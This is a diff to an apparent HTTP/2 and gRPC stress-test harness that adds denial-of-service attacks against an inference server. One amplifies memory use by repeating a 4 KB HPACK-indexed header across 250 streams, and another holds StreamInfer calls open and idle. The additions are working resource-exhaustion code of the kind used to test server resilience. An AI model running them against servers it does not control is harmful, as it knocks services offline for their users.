@@ -66,6 +66,7 @@ RPC = block(
     (b"content-type", b"application/grpc"),
     (b"te", b"trailers"),
 )
+TALK = RPC.replace(field(b":path", CALL), field(b":path", CALL.replace(b"Infer", b"StreamInfer")))
 RPC_GZIP = RPC + field(b"grpc-encoding", b"gzip")
 
 IRIS = bytes.fromhex(
@@ -166,6 +167,20 @@ def hpack_bomb(attack: Attack) -> None:
             wire.send(frame(HEADERS, END_STREAM | END_HEADERS, stream, named))
 
     attack.again(once)
+
+
+def _held(names: int) -> Callable[[Attack], None]:
+    """Keep 250 requests open a connection, whose heads name a header of 4 KB `names` times each."""
+    kept = field(b"a", b"b" * 3900, indexed=True)
+
+    def once(attack: Attack, wire: Wire) -> None:
+        open_http2(wire)
+        wire.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, GET + kept))
+        heads = (POST + b"\xbe" * names + field(b"n", b"%d" % n) for n in range(250))
+        wire.send(b"".join(open_post(3 + 2 * n, head) for n, head in enumerate(heads)))
+        wire.wait(0.1)
+
+    return lambda attack: attack.again(once)
 
 
 def continuations(attack: Attack) -> None:
@@ -337,6 +352,9 @@ def half_closed_http2(attack: Attack) -> None:
 
 ATTACKS: dict[str, Callable[[Attack], None]] = {
     "hpack_bomb": hpack_bomb,
+    "held_heads": _held(15),
+    "refused_heads": _held(62),
+    "idle_conversations": by_stream(lambda stream: open_post(stream, TALK)),
     "continuations": continuations,
     "many_fields": many_fields,
     "streams": by_stream(open_post),
